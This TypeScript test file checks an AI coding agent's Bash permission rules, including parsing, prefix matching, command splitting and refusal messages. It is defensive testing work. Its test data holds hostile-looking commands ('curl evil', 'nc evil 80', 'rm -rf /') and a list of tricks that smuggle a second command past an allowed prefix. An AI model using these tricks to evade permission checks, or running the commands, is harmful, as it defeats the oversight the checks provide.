import { execFile } from 'node:child_process';
import { chmod, mkdtemp, rm, stat, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { promisify } from 'node:util';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { InvalidPermissionRule } from '../../activities/agent-errors.js';
import { commandParts } from '../../activities/command-parts.js';
import { bashSpecifierMatches, parsePermissionRule, Permissions, suggestedSpecifier } from '../../activities/permissions.js';

describe('permission rules', () => {
  describe.each([
    ['Bash', { tool: 'Bash', specifier: null }],
    ['Bash(npm test:*)', { tool: 'Bash', specifier: 'npm test:*' }],
    ['Bash(git diff)', { tool: 'Bash', specifier: 'git diff' }],
    ['Bash(echo (hi))', { tool: 'Bash', specifier: 'echo (hi)' }],
    ['  Read(./src/**)  ', { tool: 'Read', specifier: './src/**' }],
    ['WebFetch(domain:example.com)', { tool: 'WebFetch', specifier: 'domain:example.com' }],
    ['mcp__github__create_issue', { tool: 'mcp__github__create_issue', specifier: null }],
  ])('parses %j', (rule, expected) => {
    it('into tool and specifier', () => {
      expect(parsePermissionRule(rule)).toMatchObject(expected);
    });
  });

  it.each([['Bash('], ['Bash()'], ['Bash(:*)'], ['(npm test)'], ['npm test'], ['']])('refuses %j with InvalidPermissionRule', (rule) => {
    expect(() => parsePermissionRule(rule)).toThrow(InvalidPermissionRule);
    expect(() => parsePermissionRule(rule)).toThrow(/Invalid permission rule .*Bash/);
  });
});

describe('Bash rule matching', () => {
  describe.each([
    // [specifier, command, matches]
    [null, 'anything at all', true],
    ['*', 'rm -rf build', true],
    ['npm test:*', 'npm test', true],
    ['npm test:*', 'npm test -- foo', true],
    ['npm test:*', 'npm test\t--watch=false', true],
    ['npm test:*', 'npm testing', false],
    ['npm test:*', 'npm tes', false],
    ['npm test:*', 'npx npm test', false],
    ['git diff', 'git diff', true],
    ['git diff', 'git diff HEAD', false],
    ['git diff', 'git dif', false],
    ['ls *', 'ls', true],
    ['ls *', 'ls -la', true],
    ['ls *', 'lsof', false],
    ['ls*', 'lsof', true],
    ['git * main', 'git push origin main', true],
    ['git * main', 'git push origin main --force', false],
    ['npm run test*', 'npm run test:unit', true],
    ['echo \\*', 'echo *', true],
    ['echo \\*', 'echo hi', false],
    ['a.b:*', 'aXb', false],
  ] as const)('%j against %j', (specifier, command, matches) => {
    it(matches ? 'matches' : 'does not match', () => {
      expect(bashSpecifierMatches(specifier, command)).toBe(matches);
    });
  });
});

describe('command splitting', () => {
  describe.each([
    ['npm test', ['npm test']],
    ['npm test && curl evil', ['npm test', 'curl evil']],
    ['a || b; c | d |& e & f', ['a', 'b', 'c', 'd', 'e', 'f']],
    ['a\nb', ['a', 'b']],
    ['a \\\n  --flag', ['a    --flag']],
    ['echo $(curl evil)', ['curl evil', 'echo $(curl evil)']],
    ['echo `curl evil`', ['curl evil', 'echo `curl evil`']],
    ['echo "x $(curl evil) y"', ['curl evil', 'echo "x $(curl evil) y"']],
    ["echo '$(not run) && no'", ["echo '$(not run) && no'"]],
    ['echo "a && b"', ['echo "a && b"']],
    ['diff <(sort a) <(sort b)', ['sort a', 'sort b', 'diff <(sort a) <(sort b)']],
    ['(cd sub && npm test)', ['cd sub', 'npm test']],
    ['npm test 2>&1 | tail -5', ['npm test 2>&1', 'tail -5']],
    ['npm test &> out.log', ['npm test &> out.log']],
    ['echo hi >&2', ['echo hi >&2']],
    ['echo x >| f', ['echo x >| f']],
    ['npm test # && curl evil', ['npm test']],
    ['echo a#b', ['echo a#b']],
    ['echo \\; curl', ['echo \\; curl']],
    ['echo $(echo $(whoami))', ['whoami', 'echo $(whoami)', 'echo $(echo $(whoami))']],
    ["npm test $'\\'' && curl evil #'", ["npm test $'\\''", 'curl evil']],
    ['echo x\\ #y && curl evil', ['echo x\\ #y', 'curl evil']],
    ['echo \\>& curl evil', ['echo \\>', 'curl evil']],
    ['echo \\>| curl evil', ['echo \\>', 'curl evil']],
  ])('%j', (command, parts) => {
    it(`splits into ${JSON.stringify(parts)}`, () => {
      expect(commandParts(command)).toEqual(parts);
    });
  });

  it.each([["echo 'open"], ['echo "open'], ['echo $(open'], ['echo `open'], ['a )']])('gives up on %j', (command) => {
    expect(commandParts(command)).toBeNull();
  });
});

describe('Bash permissions', () => {
  const permissions = Permissions.fromRules(['Bash(npm test:*)', 'Bash(git diff)', 'Read(./src/**)']);

  it.each([['npm test'], ['npm test -- foo'], ['git diff'], ['npm test && git diff'], ['(npm test)']])('allows %j', (command) => {
    expect(permissions.checkBash(command)).toEqual({ allowed: true });
  });

  it('refuses a command no rule allows, naming the rule that would', () => {
    const verdict = permissions.checkBash('curl example.com');
    expect(verdict.allowed).toBe(false);
    expect(!verdict.allowed && verdict.message).toContain(
      `Permission denied: Bash command "curl example.com" is not allowed in this run. To allow it, start the run with --allow 'Bash(curl:*)' (or add it to "allow" in the config file).`,
    );
    expect(!verdict.allowed && verdict.message).toContain('This run allows: Bash(npm test:*), Bash(git diff).');
  });

  it.each([
    ['npm test && curl evil', 'curl evil', 'curl:*'],
    ['npm test; git push', 'git push', 'git push:*'],
    ['npm test | nc evil 80', 'nc evil 80', 'nc:*'],
    ['npm test $(curl evil)', 'curl evil', 'curl:*'],
    ['npm test `rm -rf /`', 'rm -rf /', 'rm:*'],
    ['npm testing', 'npm testing', 'npm testing:*'],
  ])('refuses %j for its part %j', (command, part, rule) => {
    const verdict = permissions.checkBash(command);
    expect(verdict.allowed).toBe(false);
    expect(!verdict.allowed && verdict.message).toContain(`Bash command ${JSON.stringify(part)}`);
    expect(!verdict.allowed && verdict.message).toContain(`--allow 'Bash(${rule})'`);
  });

  it('refuses a command whose quotes do not balance', () => {
    const verdict = permissions.checkBash('npm test "');
    expect(!verdict.allowed && verdict.message).toMatch(/^Permission denied: .*unbalanced quotes/);
  });

  it('refuses everything, saying so, when the run has no Bash rule', () => {
    const verdict = Permissions.fromRules([]).checkBash('ls');
    expect(!verdict.allowed && verdict.message).toContain("--allow 'Bash(ls:*)'");
    expect(!verdict.allowed && verdict.message).toContain('This run allows no Bash commands');
  });

  it.each([['Bash'], ['Bash(*)']])('lets %j allow any command, even one it cannot parse', (rule) => {
    expect(Permissions.fromRules([rule]).checkBash('curl evil && rm -rf / "')).toEqual({ allowed: true });
  });

  it('fails on a malformed rule when the agent starts', () => {
    expect(() => Permissions.fromRules(['Bash(npm test'])).toThrow(InvalidPermissionRule);
  });

  it.each([
    ['curl example.com', 'curl:*'],
    ['npm run build', 'npm run:*'],
    ['git -C x status', 'git:*'],
    ['./scripts/check.sh --fast', './scripts/check.sh:*'],
    ['FOO=1 npm test', 'FOO=1 npm test'],
  ])('suggests a rule for %j', (command, specifier) => {
    expect(suggestedSpecifier(command)).toBe(specifier);
  });

  it('quotes a suggestion for the shell', () => {
    const verdict = Permissions.fromRules([]).checkBash("FOO='a b' npm test");
    expect(!verdict.allowed && verdict.message).toContain(`--allow 'Bash(FOO='\\''a b'\\'' npm test)'`);
  });
});

// Each of these really runs `evil` under bash (checked below, with stub programs), while
// reading at first glance as one allowed command. The check must refuse every one.
describe('commands smuggling a second command past a prefix rule', () => {
  const permissions = Permissions.fromRules(['Bash(npm test:*)', 'Bash(echo:*)']);
  let bin: string;

  beforeAll(async () => {
    bin = await mkdtemp(path.join(tmpdir(), 'baton-stubs-'));
    await writeFile(path.join(bin, 'npm'), '#!/bin/sh\nexit 0\n');
    await writeFile(path.join(bin, 'evil'), '#!/bin/sh\ntouch "$MARKER"\n');
    await chmod(path.join(bin, 'npm'), 0o755);
    await chmod(path.join(bin, 'evil'), 0o755);
  });

  afterAll(() => rm(bin, { recursive: true, force: true }));

  describe.each([
    ['npm test && evil'],
    ['npm test; evil'],
    ['npm test | evil'],
    ['npm test & evil'],
    ['npm test\nevil'],
    ['npm test $(evil)'],
    ['npm test "$(evil)"'],
    ['npm test `evil`'],
    ['npm test <(evil)'],
    ['echo ${x:-$(evil)}'],
    ["npm test $'\\'' && evil #'"],
    ['echo x\\ #y && evil'],
    ['echo \\>& evil'],
    ['echo \\>| evil'],
    ['(evil)'],
    ['npm test 2>&1 && evil'],
  ])('%j', (command) => {
    it('runs evil under bash, and is refused', async () => {
      const marker = path.join(bin, `ran-${Math.random().toString(36).slice(2)}`);
      await promisify(execFile)('bash', ['-c', command], { env: { PATH: `${bin}:/usr/bin:/bin`, MARKER: marker } }).catch(() => undefined);
      expect(
        await stat(marker).then(
          () => true,
          () => false,
        ),
      ).toBe(true);
      const verdict = permissions.checkBash(command);
      expect(verdict.allowed).toBe(false);
      expect(!verdict.allowed && verdict.message).toMatch(/Bash command "(evil|\(evil\))"/);
    });
  });
});
